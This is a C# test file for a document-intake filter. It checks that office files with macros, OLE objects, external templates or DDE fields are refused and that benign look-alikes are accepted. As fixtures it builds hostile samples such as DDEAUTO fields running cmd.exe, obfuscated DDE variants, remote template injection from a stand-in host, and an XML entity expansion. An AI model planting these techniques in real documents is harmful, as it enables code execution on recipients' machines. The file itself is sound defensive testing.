using System.Text;
using Initiatiefloket.Documents;

namespace Initiatiefloket.Tests.Documents;

/// <summary>Office files that do more than be read, and those that only look like it.</summary>
public sealed class ActiveOfficeFileTests
{
    private const DocumentProblem Macros = DocumentProblem.Macros;
    private const DocumentProblem Foreign = DocumentProblem.ForeignObject;
    private const DocumentProblem Fetches = DocumentProblem.FetchesElsewhere;
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>";
    private const string Separate = "<w:r><w:fldChar w:fldCharType='separate'/></w:r>";
    private const string End = "<w:r><w:fldChar w:fldCharType='end'/></w:r>";
    private const string Strict = "http://purl.oclc.org/ooxml/officeDocument/relationships/";

    private static readonly Dictionary<string, (byte[] File, DocumentProblem Answer)> Active = new()
    {
        ["DOCX with an OLE object"] = (Docx(Word("<w:object><o:OLEObject Type='Embed' ProgID='Package'/></w:object>")), Foreign),
        ["DOCX that relates to an OLE object"] = (Docx(Relation("oleObject", "embeddings/oleObject1.bin", "Internal")), Foreign),
        ["DOCX with a compound file under another name"] = (Docx(("word/media/image1.png", [.. OldOfficeFile.Signature, .. new byte[100]])), Foreign),
        ["DOCX with a page of HTML in it"] = (Docx(Relation("aFChunk", "afchunk.mht", "Internal")), Foreign),
        ["DOCX with a program in a zip"] = (Docx(("word/embeddings/a.zip", Zips.Of(("a.exe", "MZ")))), Foreign),
        ["DOCX with a sheet that has macros"] = (Docx(("word/embeddings/a.xlsx", Zips.Of(Zips.Types(Zips.Excel, "application/vnd.ms-office.vbaProject"), Zips.Relations))), Macros),
        ["DOCX with a template elsewhere"] = (Docx(Relation("attachedTemplate", "https://kwaad.example/a.dotm", "External")), Fetches),
        ["DOCX with a template elsewhere, strict"] = (Docx(Relation("attachedTemplate", "file:///C:/a.dotm", "External", Strict)), Fetches),
        ["DOCX with a picture elsewhere"] = (Docx(Relation("image", "https://kwaad.example/a.png", "External")), Fetches),
        ["DOCX with a picture elsewhere, in capitals"] = (Docx(Relation("image", "https://kwaad.example/a.png", " EXTERNAL ")), Fetches),
        ["DOCX with a drawing elsewhere"] = (Docx(Word("<v:imagedata xmlns:v='urn:schemas-microsoft-com:vml' src='https://kwaad.example/a.png'/>")), Fetches),
        ["DOCX with a frame elsewhere"] = (Docx(Relation("frame", "https://kwaad.example/", "External")), Fetches),
        ["DOCX with a link of another kind that is called one"] = (Docx(Relation("hyperlink", "https://kwaad.example/", "External", "https://kwaad.example/")), Fetches),
        ["DOCX with DDE"] = (Docx(Word("<w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\" '/>")), Fetches),
        ["DOCX with DDE in pieces"] = (Docx(Word(Begin + Code("D") + Code("DE") + Code("AUTO cmd") + End)), Fetches),
        ["DOCX with DDE behind a quoted name"] = (Docx(Word(Begin + Code(" \"DDE\" cmd") + End)), Fetches),
        ["DOCX with a field that works out its name"] = (Docx(Word(Begin + Begin + Code("QUOTE 68 68 69") + End + Code(" cmd") + End)), Fetches),
        ["DOCX with DDE in a header of UTF-16"] = (Docx(("word/header1.bin", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Word("<w:fldSimple w:instr='DDE a b'/>").Text)])), Fetches),
        ["XLSX with DDE"] = (Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>")), Fetches),
        ["XLSX with an OLE link"] = (Xlsx(("xl/externalLinks/externalLink1.xml", "<externalLink><oleLink progId='a'/></externalLink>")), Foreign),
        ["XLSX with an OLE object"] = (Xlsx(("xl/worksheets/sheet1.xml", "<worksheet><oleObjects><oleObject progId='Package'/></oleObjects></worksheet>")), Foreign),
        ["XLSX that reads another sheet"] = (Xlsx(("xl/externalLinks/_rels/externalLink1.xml.rels", Relation("externalLinkPath", "file:///C:/a.xlsx", "External").Text)), Fetches),
        ["XLSX that asks a database"] = (Xlsx(("xl/_rels/workbook.xml.rels", Relation("connections", "connections.xml", "Internal").Text)), Fetches),
        ["XLSX with macros of Excel 4 by their relation"] = (Xlsx(("xl/_rels/workbook.xml.rels", Relation("xlMacrosheet", "macrosheets/sheet1.xml", "Internal").Text)), Macros),
        ["XLSX with a button for a macro"] = (Xlsx(("xl/drawings/drawing1.xml", "<wsDr><sp macro='[0]!Doe'/></wsDr>")), Macros),
        ["XLSX that laughs in a sheet"] = (Xlsx(("xl/worksheets/sheet1.xml", "<!DOCTYPE a [<!ENTITY b 'ha'>]><worksheet>&b;</worksheet>")), DocumentProblem.Damaged),
        ["ODT with an OLE object"] = (Odt("<draw:object-ole xlink:href='./Object 1'/>"), Foreign),
        ["ODT with an applet"] = (Odt("<draw:applet xlink:href='a.jar'/>"), Foreign),
        ["ODT with a page in a frame"] = (Odt("<draw:floating-frame xlink:href='https://kwaad.example/'/>"), Foreign),
        ["ODT that starts a macro when it opens"] = (Odt("<office:scripts><office:event-listeners><script:event-listener script:event-name='dom:load'/></office:event-listeners></office:scripts>"), Macros),
        ["ODT with a script in its text"] = (Odt("<text:script script:language='JavaScript'>alert(1)</text:script>"), Macros),
        ["ODT with a link to a macro"] = (Odt("<text:a xlink:href='vnd.sun.star.script:a.py$b?language=Python&amp;location=share'>klik</text:a>"), Macros),
        ["ODT with DDE"] = (Odt("<text:dde-connection-decl office:dde-application='soffice'/>"), Fetches),
        ["ODT with a picture elsewhere"] = (Odt("<draw:image xlink:href='https://kwaad.example/a.png'/>"), Fetches),
        ["ODT with a picture on a share"] = (Odt(@"<draw:image xlink:href='\\kwaad\a.png'/>"), Fetches),
        ["ODT with a section from a file beside it"] = (Odt("<text:section-source xlink:href='../geheim.odt'/>"), Fetches),
        ["ODT with a template elsewhere"] = (Zips.Of(Zips.OpenDocument("text"), Zips.Body, Zips.Manifest, ("meta.xml", $"<office:document-meta {Zips.OdfNames}><meta:template xlink:href='https://kwaad.example/a.ott'/></office:document-meta>")), Fetches),
        ["ODS with DDE in a cell"] = (Odt("<table:table-cell table:formula='of:=DDE(\"soffice\";\"a\";\"b\")'/>", "spreadsheet"), Fetches),
        ["ODS with DDE in an object of its own"] = (Zips.Of(Zips.OpenDocument("spreadsheet"), Zips.Body, Zips.Manifest, ("Object 1/content.xml", $"<table:dde-links {Zips.OdfNames}/>")), Fetches),
    };

    private static readonly Dictionary<string, byte[]> Harmless = new()
    {
        ["DOCX with a link to click"] = Docx(Relation("hyperlink", "https://buurt.example/", "External")),
        ["DOCX with a link to click, strict"] = Docx(Relation("hyperlink", "mailto:a@buurt.example", "External", Strict)),
        ["DOCX with a link and a page number"] = Docx(Word(Begin + Code("HYPERLINK \"https://midden.example/dde\"") + Separate + Begin + Code(" PAGE ") + End + End)),
        ["DOCX with words about DDE"] = Docx(Word("<w:p><w:r><w:t>DDE en macro: dat is niets.</w:t></w:r></w:p>")),
        ["DOCX with a chart and its numbers"] = Docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", Zips.Xlsx)),
        ["DOCX with a drawn picture"] = Docx(("word/media/logo.svg", "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://www.w3.org/svg.dtd'><svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><image x:href='data:image/png;base64,AA=='/></svg>"u8.ToArray())),
        ["XLSX with remarks as Excel draws them"] = Xlsx(("xl/drawings/vmlDrawing1.vml", "<xml><div>een<br>twee</div></xml>")),
        ["XLSX with a shape without macro"] = Xlsx(("xl/drawings/drawing1.xml", "<wsDr><sp macro=''/></wsDr>")),
        ["ODT as LibreOffice writes it"] = Odt("<office:scripts/><draw:image xlink:href='Pictures/a.png'/><draw:object xlink:href='./Object 1'/><text:a xlink:href='https://buurt.example/'>x</text:a>"),
        ["ODT with an empty list of keys"] = Zips.Of(Zips.OpenDocument("text"), Zips.Body, Zips.Manifest, ("Configurations2/accelerator/current.xml", "")),
        ["ODS with a chart that shows a picture of the file"] = Zips.Of(Zips.OpenDocument("spreadsheet"), Zips.Body, Zips.Manifest, ("Object 1/content.xml", $"<draw:fill-image {Zips.OdfNames} xlink:href='../Pictures/a.png'/>")),
    };

    public static TheoryData<string> ActiveFiles { get; } = [.. Active.Keys];

    public static TheoryData<string> HarmlessFiles { get; } = [.. Harmless.Keys];

    [Theory]
    [MemberData(nameof(ActiveFiles))]
    public void Read_FileThatDoesMoreThanBeRead_IsRefused(string what)
    {
        var (file, answer) = Active[what];

        Assert.Equal(answer, Assert.IsType<ContentRead.Refused>(DocumentContent.Read(file, "a", Budgets.New)).Problem);
    }

    [Theory]
    [MemberData(nameof(HarmlessFiles))]
    public void Read_FileThatOnlyLooksLikeIt_IsTaken(string what) =>
        Assert.Equal(Harmless[what], Assert.IsType<ContentRead.Accepted>(DocumentContent.Read(Harmless[what], "a", Budgets.New)).Bytes.ToArray());

    private static string Code(string code) => $"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>";

    private static (string Name, string Text) Word(string body) => ("word/document.xml", $"<w:document {Zips.WordNames}><w:body>{body}</w:body></w:document>");

    private static (string Name, string Text) Relation(string type, string target, string mode, string family = Office) =>
        ("word/_rels/document.xml.rels", $"<Relationships><Relationship Id='a' Type='{family}{type}' Target='{target}' TargetMode='{mode}'/></Relationships>");

    private static byte[] Docx((string Name, string Text) part) => Docx((part.Name, Encoding.UTF8.GetBytes(part.Text)));

    private static byte[] Docx((string Name, byte[] Content) part) => Zips.Of([.. Zips.PartsOfDocx, part]);

    private static byte[] Xlsx((string Name, string Text) part) => Zips.Of([.. Zips.PartsOfXlsx, (part.Name, Encoding.UTF8.GetBytes(part.Text))]);

    private static byte[] Odt(string inside, string kind = "text") =>
        Zips.Of(Zips.OpenDocument(kind), ("content.xml", $"<office:document-content {Zips.OdfNames}>{inside}</office:document-content>"), Zips.Manifest);
}
